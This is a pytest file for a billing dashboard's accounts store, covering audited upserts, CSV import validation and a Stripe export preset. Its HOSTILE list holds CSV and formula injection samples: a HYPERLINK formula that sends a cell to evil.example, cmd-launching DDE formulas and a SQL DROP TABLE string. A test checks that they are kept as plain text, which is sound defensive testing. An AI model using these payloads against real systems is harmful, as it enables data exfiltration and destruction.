"""Accounts (plans, customers' terms, user ids, revenue): exact round trips, upserts with an audit
row per changed row, CSV imports that name every bad row and write nothing while one is, the
Stripe preset, and demo accounts that fit the demo calls. Both stores."""

from __future__ import annotations

import itertools
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from sqlalchemy import Engine, func, insert, select
from sqlalchemy.exc import IntegrityError

from dashboard import account_import as ai
from dashboard.accounts import (
    AccountError,
    Written,
    load_accounts,
    load_plans,
    load_revenue,
    load_terms,
    load_users,
    money_problem,
    revenue_id,
    write_plans,
    write_revenue,
    write_terms,
    write_users,
)
from dashboard.economics import Plan, RevenueLine, Term
from tracking.schema import audit_log, customer_users, customers, plans, revenue
from tracking.sqltypes import plain_decimal

D = Decimal
JAN = date(2026, 1, 1)
PLANS = [
    Plan("free", D(0), "month", D("0.5"), date(2023, 1, 1)),
    Plan("pro", D("19.99"), "month", D("10.000000001"), date(2023, 1, 1)),
    Plan("team", D(30), "month", D(40)),
    Plan("pro-annual", D("191.904"), "year", None, date(2024, 1, 1), date(2026, 6, 30)),
]
TERMS = [
    Term("acme", "Acme Inc", "team", date(2026, 1, 1), date(2026, 3, 31), 3, D("12.5")),
    Term("acme", "Acme Inc", "team", date(2026, 4, 1), None, 5, D(0), D("999999999.999999999")),
    Term("solo", "Sam", "pro", date(2025, 11, 2), None, 1, D("33.333333")),
    Term("deal", "Deal Co", None, date(2026, 2, 1), None, 2, D(0), D("0.000000001")),
]
USERS = {"u_1": "acme", "u_2": "acme", "u_3": "solo", "u_4": "deal"}
REVENUE = {
    "in_1": RevenueLine("acme", date(2026, 1, 1), date(2026, 1, 31), D("0.1"), "usage"),
    "in_2": RevenueLine("acme", date(2026, 2, 1), date(2026, 2, 28), D("0.2"), None),
    "in_3": RevenueLine("solo", date(2026, 3, 5), date(2026, 3, 5), D("1234.567890123"), "setup"),
}


def seed(engine: Engine) -> None:
    with engine.begin() as conn:
        write_plans(conn, PLANS, "test")
        write_terms(conn, TERMS, "test")
        write_users(conn, USERS, "test")
        write_revenue(conn, REVENUE, "test")


def audits(engine: Engine) -> list:
    with engine.connect() as conn:
        return list(conn.execute(select(audit_log).order_by(audit_log.c.id)))


def counts(engine: Engine) -> dict[str, int]:
    with engine.connect() as conn:
        return {
            t.name: conn.execute(select(func.count()).select_from(t)).scalar_one()
            for t in (plans, customers, customer_users, revenue, audit_log)
        }


# --- the store ----------------------------------------------------------------------------------


def test_every_table_round_trips_exactly(engine: Engine) -> None:
    seed(engine)
    with engine.connect() as conn:
        accounts = load_accounts(conn)
        solo = load_terms(conn, ["solo"])
    assert accounts.plans == {p.name: p for p in PLANS}
    assert accounts.terms == sorted(TERMS, key=lambda t: (t.customer_id, t.start))
    assert solo == [TERMS[2]]
    assert accounts.users == USERS
    assert accounts.revenue == REVENUE
    # exact Decimals, not floats that happen to compare equal
    money = [p.price for p in accounts.plans.values()] + [r.amount for r in REVENUE.values()]
    money += [t.custom_price for t in accounts.terms if t.custom_price is not None]
    assert all(type(m) is Decimal for m in money)
    acme = [t for t in accounts.terms if t.customer_id == "acme"]
    assert plain_decimal(acme[1].custom_price) == "999999999.999999999"
    assert plain_decimal(acme[0].discount_pct) == "12.5"
    assert accounts.plans["pro"].included_usage == D("10.000000001")
    assert accounts.plans["pro-annual"].monthly_price == D("15.992")
    assert sum(r.amount for r in accounts.revenue.values()) == D("1234.867890123")


def test_upserts_count_added_and_changed_and_audit_each(engine: Engine) -> None:
    with engine.begin() as conn:
        assert write_plans(conn, PLANS, "alice", "first") == Written(4, 0, 0)
    first = audits(engine)
    assert [(a.action, a.table_name, a.key, a.who, a.note) for a in first] == [
        ("add", "plans", p.name, "alice", "first") for p in PLANS
    ]
    assert first[1].before is None
    assert first[1].after == {
        "name": "pro",
        "price": "19.99",
        "period": "month",
        "currency": "USD",
        "included_usage": "10.000000001",
        "active_from": "2023-01-01",
        "active_to": None,
    }

    cheaper = Plan("pro", D("17.5"), "month", D("10.000000001"), date(2023, 1, 1))
    with engine.begin() as conn:  # one changed, one new, three as they are
        got = write_plans(conn, [*PLANS[:1], cheaper, *PLANS[2:], Plan("max", D(99))], "bob")
    assert got == Written(added=1, changed=1, unchanged=3)
    later = audits(engine)[len(first) :]
    assert [(a.action, a.key) for a in later] == [("add", "max"), ("edit", "pro")]
    edit = later[1]
    assert edit.before["price"] == "19.99" and edit.after["price"] == "17.5"
    assert edit.who == "bob"
    with engine.begin() as conn:  # the same again: nothing to do, nothing logged
        assert write_plans(conn, [cheaper], "bob") == Written(0, 0, 1)
    assert len(audits(engine)) == len(first) + 2

    with engine.begin() as conn:
        assert write_terms(conn, TERMS, "alice") == Written(4, 0, 0)
        assert write_users(conn, USERS, "alice") == Written(4, 0, 0)
        assert write_revenue(conn, REVENUE, "alice") == Written(3, 0, 0)
    seats = Term(
        "acme", "Acme Inc", "team", date(2026, 4, 1), None, 6, D(0), D("999999999.999999999")
    )
    with engine.begin() as conn:
        assert write_terms(conn, [seats], "carol") == Written(0, 1, 0)
        assert write_users(conn, {"u_3": "acme", "u_9": "solo"}, "carol") == Written(1, 1, 0)
        moved = RevenueLine("acme", date(2026, 1, 1), date(2026, 1, 31), D("0.15"), "usage")
        assert write_revenue(conn, {"in_1": moved}, "carol") == Written(0, 1, 0)
    carol = [a for a in audits(engine) if a.who == "carol"]
    assert [(a.action, a.table_name, a.key) for a in carol] == [
        ("edit", "customers", "acme from 2026-04-01"),
        ("add", "customer_users", "u_9"),
        ("edit", "customer_users", "u_3"),
        ("edit", "revenue", "in_1"),
    ]
    assert carol[0].before["seats"] == 5 and carol[0].after["seats"] == 6
    assert carol[0].after["custom_price"] == "999999999.999999999"
    assert carol[0].after["discount_pct"] == "0"
    assert carol[2].before == {"user_id": "u_3", "customer_id": "solo"}
    assert carol[3].after["amount"] == "0.15"
    with engine.connect() as conn:
        assert load_users(conn)["u_3"] == "acme"
        assert load_revenue(conn)["in_1"].amount == D("0.15")


def test_a_dry_run_counts_and_writes_nothing(engine: Engine) -> None:
    seed(engine)
    before = counts(engine)
    with engine.begin() as conn:
        got = write_plans(conn, [Plan("free", D(1)), Plan("new", D(2))], "x", dry_run=True)
    assert got == Written(1, 1, 0)
    assert counts(engine) == before


@pytest.mark.parametrize(
    ("write", "message"),
    [
        (lambda c: write_plans(c, [Plan("eur", D(5))], "x", currency="EUR"), "not USD"),
        (lambda c: write_plans(c, [Plan("neg", D(-1))], "x"), "negative"),
        (lambda c: write_plans(c, [Plan("wk", D(1), "week")], "x"), "not month or year"),
        (lambda c: write_plans(c, [Plan("p", D(1)), Plan("p", D(2))], "x"), "given twice"),
        (lambda c: write_plans(c, [Plan("fine", D("0.0000000001"))], "x"), "nano-dollar"),
        (lambda c: write_terms(c, [Term("c", "C", "gold", JAN)], "x"), "unknown plan"),
        (lambda c: write_terms(c, [Term("c", "C", "pro", JAN, seats=0)], "x"), "seats"),
        (
            lambda c: write_terms(c, [Term("c", "C", "pro", JAN, None, 1, D(101))], "x"),
            "outside 0-100",
        ),
        (
            lambda c: write_terms(c, [Term("c", "C", "pro", date(2026, 2, 1), JAN)], "x"),
            "before it starts",
        ),
        (lambda c: write_users(c, {"u_new": "nobody"}, "x"), "unknown customer"),
        (
            lambda c: write_revenue(
                c, {"r": RevenueLine("solo", date(2026, 1, 1), date(2026, 1, 2), D(1))}, "x",
                currency="GBP",
            ),
            "not USD",
        ),
    ],
)  # fmt: skip
def test_a_bad_row_is_refused_by_name_and_nothing_is_written(
    engine: Engine, write, message: str
) -> None:
    seed(engine)
    before = counts(engine)
    with pytest.raises(AccountError, match=message), engine.begin() as conn:
        write(conn)
    assert counts(engine) == before


def test_the_store_itself_keeps_usd_only_and_a_seat_at_least(engine: Engine) -> None:
    seed(engine)
    with pytest.raises(IntegrityError), engine.begin() as conn:
        conn.execute(insert(plans).values(name="eu", price=D(1), period="month", currency="EUR"))
    with pytest.raises(IntegrityError), engine.begin() as conn:
        conn.execute(
            insert(customers).values(
                customer_id="z", start=date(2026, 1, 1), name="Z", plan="pro", seats=0,
                discount_pct=D(0),
            )
        )  # fmt: skip
    with pytest.raises(IntegrityError), engine.begin() as conn:  # a plan that is not stored
        conn.execute(
            insert(customers).values(
                customer_id="z", start=date(2026, 1, 1), name="Z", plan="gold", seats=1,
                discount_pct=D(0),
            )
        )  # fmt: skip


# --- CSV import ---------------------------------------------------------------------------------

PLANS_CSV = """name,price,period,currency,included_usage,active_from,active_to
free,0,month,USD,0.50,2023-01-01,
pro,$19.99,month,usd,10,2023-01-01,
team,30.00,month,,40,,
pro-annual,"1,191.904",year,USD,,2024-01-01,2026-06-30
"""


def test_plans_import_adds_then_changes_then_finds_nothing_to_do(engine: Engine) -> None:
    with engine.begin() as conn:
        preview = ai.preview_import(conn, "plans", PLANS_CSV)
    assert preview.ok and preview.rows == 4
    assert preview.would == {"plans": Written(4, 0, 0)}
    assert counts(engine)["plans"] == 0  # a preview writes nothing
    with engine.begin() as conn:
        result = ai.import_csv(conn, "plans", PLANS_CSV, "alice", note="from sheet")
    assert result.written == {"plans": Written(4, 0, 0)}
    assert (result.added, result.changed) == (4, 0)
    assert result.message == "Imported plans: 4 added, 0 changed"
    with engine.connect() as conn:
        stored = load_plans(conn)
    assert stored["pro"].price == D("19.99")
    assert stored["pro-annual"] == Plan(
        "pro-annual", D("1191.904"), "year", None, date(2024, 1, 1), date(2026, 6, 30)
    )
    assert [a.note for a in audits(engine)] == ["from sheet"] * 4

    changed = PLANS_CSV.replace("team,30.00", "team,32")
    with engine.begin() as conn:
        result = ai.import_csv(conn, "plans", changed, "bob")
    assert result.written == {"plans": Written(0, 1, 3)}
    assert result.message == "Imported plans: 0 added, 1 changed (3 unchanged)"
    with engine.begin() as conn:
        assert ai.import_csv(conn, "plans", changed, "bob").written == {"plans": Written(0, 0, 4)}
    assert len(audits(engine)) == 5


CUSTOMERS_CSV = """customer_id,name,plan,start,end,seats,discount_pct,custom_price,users
acme,"Acme, Inc.",team,2026-01-01,2026-03-31,3,12.5,,u_1;u_2
acme,"Acme, Inc.",team,2026-04-01,,5,,999999999.999999999,u_1; u_2 u_5
solo,Sam,pro,2025-11-02,,,33.333333%,,u_3
deal,Deal Co,,2026-02-01,,2,,0.000000001,u_4
"""


def import_plans(engine: Engine) -> None:
    with engine.begin() as conn:
        assert ai.import_csv(conn, "plans", PLANS_CSV, "test").preview.ok


def test_customers_import_writes_terms_and_user_ids(engine: Engine) -> None:
    import_plans(engine)
    with engine.begin() as conn:
        preview = ai.preview_import(conn, "customers", CUSTOMERS_CSV)
        assert preview.ok, preview.messages()
        assert preview.would == {
            "customers": Written(4, 0, 0),
            "customer_users": Written(5, 0, 0),
        }
        result = ai.import_csv(conn, "customers", CUSTOMERS_CSV, "alice")
    assert (
        result.message
        == "Imported customers: 4 added, 0 changed; customer users: 5 added, 0 changed"
    )
    with engine.connect() as conn:
        terms = load_terms(conn)
        users = load_users(conn)
    assert terms == sorted(
        [
            Term("acme", "Acme, Inc.", "team", date(2026, 1, 1), date(2026, 3, 31), 3, D("12.5")),
            Term("acme", "Acme, Inc.", "team", date(2026, 4, 1), None, 5, D(0),
                 D("999999999.999999999")),
            Term("solo", "Sam", "pro", date(2025, 11, 2), None, 1, D("33.333333")),
            Term("deal", "Deal Co", None, date(2026, 2, 1), None, 2, D(0), D("0.000000001")),
        ],
        key=lambda t: (t.customer_id, t.start),
    )  # fmt: skip
    assert users == {"u_1": "acme", "u_2": "acme", "u_5": "acme", "u_3": "solo", "u_4": "deal"}
    with engine.begin() as conn:  # again: nothing added, nothing changed
        again = ai.import_csv(conn, "customers", CUSTOMERS_CSV, "alice")
    assert (again.added, again.changed) == (0, 0)
    # a user moved between two customers that the same CSV imports
    moved = CUSTOMERS_CSV.replace("u_1; u_2 u_5", "u_1 u_2").replace(",u_3\n", ",u_3 u_5\n")
    with engine.begin() as conn:
        result = ai.import_csv(conn, "customers", moved, "bob")
    assert result.written["customer_users"] == Written(0, 1, 4)
    with engine.connect() as conn:
        assert load_users(conn)["u_5"] == "solo"


REVENUE_CSV = """id,customer_id,start,end,amount,note,currency
in_1,acme,2026-01-01,2026-01-31,0.10,usage,USD
in_2,acme,2026-02-01,2026-02-28,0.20,,
,solo,2026-03-05,2026-03-05,"1,234.567890123",setup,usd
"""


def test_revenue_import_keeps_ids_and_makes_one_for_a_line_without(engine: Engine) -> None:
    import_plans(engine)
    with engine.begin() as conn:
        ai.import_csv(conn, "customers", CUSTOMERS_CSV, "test")
        result = ai.import_csv(conn, "revenue", REVENUE_CSV, "alice")
    assert result.written == {"revenue": Written(3, 0, 0)}
    setup = RevenueLine("solo", date(2026, 3, 5), date(2026, 3, 5), D("1234.567890123"), "setup")
    with engine.connect() as conn:
        assert load_revenue(conn) == {
            "in_1": RevenueLine("acme", date(2026, 1, 1), date(2026, 1, 31), D("0.1"), "usage"),
            "in_2": RevenueLine("acme", date(2026, 2, 1), date(2026, 2, 28), D("0.2"), None),
            revenue_id(setup): setup,
        }
    assert revenue_id(setup) == "solo:2026-03-05:2026-03-05:setup"
    changed = REVENUE_CSV.replace('"1,234.567890123"', "1300")
    with engine.begin() as conn:
        assert ai.import_csv(conn, "revenue", changed, "bob").written == {
            "revenue": Written(0, 1, 2)
        }


# (kind, CSV rows after the good ones, the reason's words). Each bad row is on line 4: the
# header is line 1, and the good row of line 2 has a cell spanning two lines (2 and 3).
GOOD = {
    "plans": 'name,price,period,currency,active_from\nbasic,"5\n",month,USD,2026-01-01\n',
    "customers": (
        "customer_id,name,plan,start,end,seats,discount_pct,currency,users\n"
        'c_new,"New\nCo",pro,2026-01-01,,1,0,USD,u_10\n'
    ),
    "revenue": (
        "id,customer_id,start,end,amount,currency,note\n"
        'r_1,solo,2026-01-01,2026-01-31,5,USD,"a\nb"\n'
    ),
}
BAD_ROWS = [
    ("customers", "c_x,X,gold,2026-01-01,,1,0,USD,u_11", "unknown plan 'gold'"),
    ("customers", "c_x,X,pro,2026-02-30,,1,0,USD,u_11", "malformed date in start"),
    ("customers", "c_x,X,pro,01/02/2026,,1,0,USD,u_11", "malformed date in start"),
    ("plans", "gold,5,month,USD,next week", "malformed date in active_from"),
    ("plans", "gold,-5,month,USD,", "negative amount in price"),
    ("revenue", "r_2,solo,2026-01-01,2026-01-31,-0.01,USD,", "negative amount in amount"),
    ("plans", "gold,five,month,USD,", "malformed amount in price"),
    ("plans", "basic,6,month,USD,", "duplicate id: plan 'basic' is on line 2 too"),
    ("revenue", "r_1,solo,2026-02-01,2026-02-28,5,USD,", "duplicate id: revenue 'r_1' is on line"),
    ("customers", "c_new,X,pro,2026-01-01,,1,0,USD,", "duplicate id: customer 'c_new' from 2026"),
    ("customers", "c_x,X,pro,2026-01-01,,1,0,USD,u_12 u_10", "user id 'u_10' claimed by two"),
    ("customers", "c_x,X,pro,2026-01-01,,1,0,USD,u_3", "user id 'u_3' claimed by two customers"),
    ("customers", "c_x,X,pro,,,1,0,USD,u_11", "missing required field start"),
    ("customers", ",X,pro,2026-01-01,,1,0,USD,u_11", "missing required field customer_id"),
    ("plans", ",5,month,USD,", "missing required field name"),
    ("plans", "gold,,month,USD,", "missing required field price"),
    ("revenue", "r_2,solo,2026-01-01,,5,USD,", "missing required field end"),
    ("plans", "gold,5,month,EUR,", "currency not USD: 'EUR'"),
    ("customers", "c_x,X,pro,2026-01-01,,1,0,GBP,u_11", "currency not USD: 'GBP'"),
    ("revenue", "r_2,solo,2026-01-01,2026-01-31,5,JPY,", "currency not USD: 'JPY'"),
    ("customers", "c_x,X,pro,2026-01-01,,2.5,0,USD,u_11", "seats not a whole number of 1 or more"),
    ("customers", "c_x,X,pro,2026-01-01,,0,0,USD,u_11", "seats not a whole number of 1 or more"),
    ("customers", "c_x,X,pro,2026-01-01,,many,0,USD,u_11", "seats not a whole number"),
    ("customers", "c_x,X,pro,2026-01-01,,1,101,USD,u_11", "discount outside 0-100: '101'"),
    ("customers", "c_x,X,pro,2026-01-01,,1,-5,USD,u_11", "discount outside 0-100: '-5'"),
    ("customers", "c_x,X,pro,2026-01-01,2025-01-01,1,0,USD,u_11", "end 2025-01-01 is before start"),
    ("revenue", "r_2,nobody,2026-01-01,2026-01-31,5,USD,", "unknown customer 'nobody'"),
    ("plans", "gold,5,week,USD,", "period not month or year"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "bad", "reason"), BAD_ROWS)
def test_each_bad_row_is_listed_with_its_line_and_reason_and_nothing_is_written(
    engine: Engine, kind: str, bad: str, reason: str
) -> None:
    seed(engine)
    text = GOOD[kind] + bad + "\n"
    before = counts(engine)
    with engine.begin() as conn:
        preview = ai.preview_import(conn, kind, text)
        result = ai.import_csv(conn, kind, text, "mallory")
    assert not preview.ok
    assert [b.line for b in preview.bad] == [4], preview.messages()
    assert any(reason in r for r in preview.bad[0].reasons), preview.bad[0].reasons
    assert str(preview.bad[0]).startswith("Line 4: ")
    assert result.written == {} and result.message.startswith("Nothing written: ")
    assert counts(engine) == before  # the good row of line 2 is not written either


def test_every_bad_row_is_listed_at_once_with_all_its_reasons(engine: Engine) -> None:
    seed(engine)
    text = (
        "customer_id,name,plan,start,seats,discount_pct,users\n"
        "ok_1,Fine,pro,2026-01-01,1,0,u_20\n"  # line 2
        "bad_1,Bad,gold,2026-13-01,0,120,u_21\n"  # line 3: four reasons
        "\n"  # line 4: blank, skipped
        "ok_2,Fine,team,2026-01-01,3,,u_22 u_23\n"  # line 5
        "bad_2,Bad,pro,2026-01-01,1,0,u_20\n"  # line 6: u_20 is ok_1's
        "bad_3,Bad,pro,2026-01-01,1,0,u_24,extra\n"  # line 7: more cells than columns
    )
    with engine.begin() as conn:
        preview = ai.preview_import(conn, "customers", text)
    assert [b.line for b in preview.bad] == [3, 6, 7]
    assert len(preview.bad[0].reasons) == 4
    assert preview.rows == 5
    assert preview.summary() == "Nothing can be imported yet: 3 bad rows (of 5)."
    assert "Line 6: user id 'u_20' claimed by two customers: 'ok_1' (line 2) and 'bad_2'" in (
        preview.messages()
    )


def test_file_problems_are_named_and_block_the_import(engine: Engine) -> None:
    seed(engine)
    with engine.begin() as conn:
        no_price = ai.preview_import(conn, "plans", "name,period\ngold,month\n")
        wrong_map = ai.preview_import(conn, "plans", PLANS_CSV, mapping={"price": "Cost"})
        unknown_field = ai.preview_import(conn, "plans", PLANS_CSV, mapping={"colour": "name"})
        empty = ai.preview_import(conn, "plans", "")
        wrong_preset = ai.preview_import(conn, "plans", PLANS_CSV, preset="stripe_subscriptions")
        result = ai.import_csv(conn, "plans", "name,period\ngold,month\n", "x")
    assert no_price.problems == ["no column for the required field price (map one)"]
    assert wrong_map.problems == ["the CSV has no column 'Cost' (mapped to price)"]
    assert "unknown field 'colour'" in unknown_field.problems[0]
    assert empty.problems == ["the CSV is empty: a header row is needed"]
    assert "imports customers" in wrong_preset.problems[0]
    assert result.written == {}


def test_a_mapping_names_which_column_is_which_field(engine: Engine) -> None:
    seed(engine)
    text = "Tier;Monthly USD;Billing\ngold;49;monthly\n"  # Excel's semicolons
    mapping = {"name": "Tier", "price": "Monthly USD", "period": "Billing"}
    with engine.begin() as conn:
        assert ai.header_of(text) == ["Tier", "Monthly USD", "Billing"]
        result = ai.import_csv(conn, "plans", text, "x", mapping=mapping)
        assert result.written == {"plans": Written(1, 0, 0)}
        assert load_plans(conn)["gold"] == Plan("gold", D(49), "month")
    # by default, columns named like the fields or their aliases, any case and punctuation
    header = ["Customer ID", "Start Date", "Quantity", "User IDs"]
    assert ai.default_columns("customers", header) == {
        "customer_id": ("Customer ID",),
        "start": ("Start Date",),
        "seats": ("Quantity",),
        "users": ("User IDs",),
    }  # fmt: skip


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Robert'); DROP TABLE customers;--",
    "<script>alert(1)</script>",
    'tab\there, and a "quote"',
]


def test_hostile_text_is_kept_as_text(engine: Engine) -> None:
    import csv
    import io

    seed(engine)
    out = io.StringIO()
    w = csv.writer(out)
    w.writerow(["customer_id", "name", "plan", "start", "users"])
    for i, text in enumerate(HOSTILE):
        w.writerow([f"h_{i}", text, "pro", "2026-01-01", f"hu_{i}"])
    w2 = io.StringIO()
    r = csv.writer(w2)
    r.writerow(["id", "customer_id", "start", "end", "amount", "note"])
    for i, text in enumerate(HOSTILE):
        r.writerow([f"hr_{i}", "solo", "2026-01-01", "2026-01-31", "1", text])
    with engine.begin() as conn:
        assert ai.import_csv(conn, "customers", out.getvalue(), "x").preview.ok
        assert ai.import_csv(conn, "revenue", w2.getvalue(), "x").preview.ok
    with engine.connect() as conn:
        names = {t.customer_id: t.name for t in load_terms(conn)}
        notes = {k: v.note for k, v in load_revenue(conn).items()}
    assert [names[f"h_{i}"] for i in range(len(HOSTILE))] == HOSTILE
    assert [notes[f"hr_{i}"] for i in range(len(HOSTILE))] == HOSTILE
    assert counts(engine)["customers"] == len(TERMS) + len(HOSTILE)  # no table was dropped


# A Stripe Dashboard subscriptions export (Billing > Subscriptions > Export), trimmed to a few
# rows, with columns the import does not read left in.
STRIPE_COLUMNS = (
    "id,Customer ID,Customer Name,Customer Email,Customer Description,Plan,Product,Quantity,"
    "Currency,Interval,Amount,Status,Cancellation Reason,Created (UTC),Start (UTC),"
    "Current Period Start (UTC),Current Period End (UTC),Trial Start (UTC),Trial End (UTC),"
    "Canceled At (UTC),Ended At (UTC),users (metadata)"
)
STRIPE_ROWS = [
    "sub_1Aa,cus_Q1,Ada Lovelace,ada@example.com,,pro,Unitwise Pro,1,usd,month,19.99,active,,"
    "2025-03-01 09:12,2025-03-01 09:12,2026-11-01 09:12,2026-12-01 09:12,,,,,u_ada",
    "sub_1Bb,cus_Q2,,ops@globex.example,,team,Unitwise Team,4,usd,month,30.00,past_due,,"
    "2025-06-10 14:00,2025-06-10 14:00,2026-11-10 14:00,2026-12-10 14:00,,,,,g_1;g_2;g_3;g_4",
    "sub_1Cc,cus_Q3,Initech,it@initech.example,,team,Unitwise Team,3,usd,month,25.00,canceled,"
    "cancellation_requested,2025-01-05 08:00,2025-01-05 08:00,2026-05-05 08:00,2026-06-05 08:00,"
    ",,2026-05-20 10:00,2026-06-05 08:00,i_1 i_2 i_3",
    "sub_1Dd,cus_Q4,Yearly Co,y@example.com,,pro-annual,Unitwise Pro,1,usd,year,1191.904,trialing,,"
    "2026-11-25 12:00,2026-11-25 12:00,2026-11-25 12:00,2027-11-25 12:00,2026-11-25 12:00,"
    "2026-12-09 12:00,,,",
]
STRIPE_EXPORT = "\ufeff" + "\r\n".join([STRIPE_COLUMNS, *STRIPE_ROWS]) + "\r\n"  # as Excel saves it


def test_the_stripe_preset_maps_a_subscriptions_export(engine: Engine) -> None:
    import_plans(engine)
    with engine.begin() as conn:
        preview = ai.preview_import(conn, "customers", STRIPE_EXPORT, preset="stripe_subscriptions")
        assert preview.ok, preview.messages()
        assert preview.columns["start"] == (
            "Start (UTC)",
            "Created (UTC)",
            "Current Period Start (UTC)",
        )
        assert preview.columns["name"] == (
            "Customer Name",
            "Customer Email",
            "Customer Description",
        )
        result = ai.import_csv(
            conn, "customers", STRIPE_EXPORT, "ops", preset="stripe_subscriptions"
        )
    assert result.written == {"customers": Written(4, 0, 0), "customer_users": Written(8, 0, 0)}
    with engine.connect() as conn:
        terms = {t.customer_id: t for t in load_terms(conn)}
        users = load_users(conn)
    assert terms == {
        # the plan's price: no custom price
        "cus_Q1": Term("cus_Q1", "Ada Lovelace", "pro", date(2025, 3, 1), None, 1),
        # no name: the email; past_due still runs; the current period's end is no end
        "cus_Q2": Term("cus_Q2", "ops@globex.example", "team", date(2025, 6, 10), None, 4),
        # canceled: ended when Stripe says it ended; $25 a seat instead of $30: a custom price
        "cus_Q3": Term("cus_Q3", "Initech", "team", date(2025, 1, 5), date(2026, 6, 5), 3,
                       D(0), D(75)),
        "cus_Q4": Term("cus_Q4", "Yearly Co", "pro-annual", date(2026, 11, 25), None, 1),
    }  # fmt: skip
    assert users == {
        "u_ada": "cus_Q1",
        **{f"g_{i}": "cus_Q2" for i in range(1, 5)},
        **{f"i_{i}": "cus_Q3" for i in range(1, 4)},
    }
    # an export of a later day: the same subscriptions, a period further on, Q2 now canceled
    later = STRIPE_EXPORT.replace(",past_due,,", ",canceled,,").replace(
        "2026-12-10 14:00,,,,,g_1", "2026-12-10 14:00,,,2026-12-01 10:00,2026-12-10 14:00,g_1"
    )
    with engine.begin() as conn:
        again = ai.import_csv(conn, "customers", later, "ops", preset="stripe_subscriptions")
    assert again.written["customers"] == Written(0, 1, 3)
    with engine.connect() as conn:
        assert [t.end for t in load_terms(conn, ["cus_Q2"])] == [date(2026, 12, 10)]


def test_the_stripe_preset_names_what_it_cannot_take(engine: Engine) -> None:
    import_plans(engine)
    header, rows = STRIPE_COLUMNS, STRIPE_ROWS
    bad = [
        rows[0].replace(",pro,Unitwise Pro,", ",enterprise,Unitwise Pro,"),
        rows[1].replace(",usd,month,30.00,", ",eur,month,30.00,"),
        rows[2].replace(",Unitwise Team,3,", ",Unitwise Team,0,"),
        rows[3].replace(",year,", ",week,"),
    ]
    with engine.begin() as conn:
        preview = ai.preview_import(
            conn, "customers", "\n".join([header, *bad]), preset="stripe_subscriptions"
        )
    reasons = {b.line: " ".join(b.reasons) for b in preview.bad}
    assert set(reasons) == {2, 3, 4, 5}
    assert "unknown plan 'enterprise'" in reasons[2]
    assert "currency not USD: 'eur'" in reasons[3]
    assert "seats not a whole number of 1 or more: '0'" in reasons[4]
    assert "interval not month or year: 'week'" in reasons[5]


# --- the demo's accounts ------------------------------------------------------------------------

END = datetime(2026, 11, 20, 15, tzinfo=UTC)


def test_demo_accounts_fit_the_demo_calls(engine: Engine) -> None:
    from dashboard import demo
    from tracking.schema import calls

    assert demo.load(engine, 12_000, 21, 3, end=END) == 12_000
    with engine.connect() as conn:
        accounts = load_accounts(conn)
        plan = calls.c.tags["plan"].as_string()
        when = (func.min(calls.c.occurred_at), func.max(calls.c.occurred_at))
        seen = {
            (user, tag): (first, last)
            for user, tag, first, last in conn.execute(
                select(calls.c.user_id, plan, *when).group_by(calls.c.user_id, plan)
            )
        }
    assert set(accounts.plans) == {"free", "pro", "team", "starter"}
    assert accounts.plans["free"].price == 0 and accounts.plans["starter"].active_to is not None
    called = {user: (plan, first, last) for (user, plan), (first, last) in seen.items()}
    assert len(called) == len(seen)  # one plan tag per user
    # every demo user is some customer's, and every customer's user id has calls
    assert set(accounts.users) == set(called)
    by_customer: dict[str, list[Term]] = {}
    for term in accounts.terms:
        by_customer.setdefault(term.customer_id, []).append(term)
    assert set(by_customer) == set(accounts.users.values())
    churned = 0
    for customer_id, terms in by_customer.items():
        users = [u for u, c in accounts.users.items() if c == customer_id]
        current = terms[-1]
        assert all(called[u][0] == current.plan for u in users), (customer_id, current)
        for earlier, later in itertools.pairwise(terms):
            assert earlier.end is not None and (later.start - earlier.end).days == 1
        # calls only while subscribed: after the current term began, up to its end
        first = min(called[u][1] for u in users).date()
        last = max(called[u][2] for u in users).date()
        assert current.start <= first
        if current.end is not None:
            churned += 1
            assert last <= current.end
        if current.plan == "team":
            assert current.seats == len(users) >= 1
        else:
            assert len(users) == 1 and all(t.seats == 1 for t in terms)
    assert churned >= 1
    assert any(t.plan == "team" for t in accounts.terms)
    assert any(t.discount_pct > 0 for t in accounts.terms)
    assert any(t.custom_price is not None for t in accounts.terms)
    assert any(len(terms) > 1 for terms in by_customer.values())  # an upgrade
    assert accounts.revenue and all(r.amount > 0 for r in accounts.revenue.values())
    assert all(by_customer[r.customer_id][-1].plan == "team" for r in accounts.revenue.values())
    assert counts(engine)["audit_log"] == 0  # demo data is not an edit

    # loading again stores nothing twice
    before = counts(engine)
    assert demo.load(engine, 12_000, 21, 3, end=END) == 0
    assert counts(engine) == before
    with engine.connect() as conn:
        assert load_accounts(conn) == accounts


@pytest.mark.parametrize(
    ("amount", "shown"),
    [
        ("1e309", "price 1e+309 is too large (under a billion dollars)"),
        ("1000000000", "price 1000000000 is too large (under a billion dollars)"),
        ("-1e40", "price is negative (-1e+40): amounts are 0 or more"),
        ("0.0000000001", "price 0.0000000001 is finer than a nano-dollar (9 decimal places)"),
    ],
)
def test_an_amount_out_of_range_is_named_briefly(amount: str, shown: str) -> None:
    """A huge amount is shown in powers of ten, not as 310 digits; a short one exactly, and a
    too-fine one always exactly (the digits are what is wrong with it)."""
    assert money_problem(Decimal(amount), "price") == shown
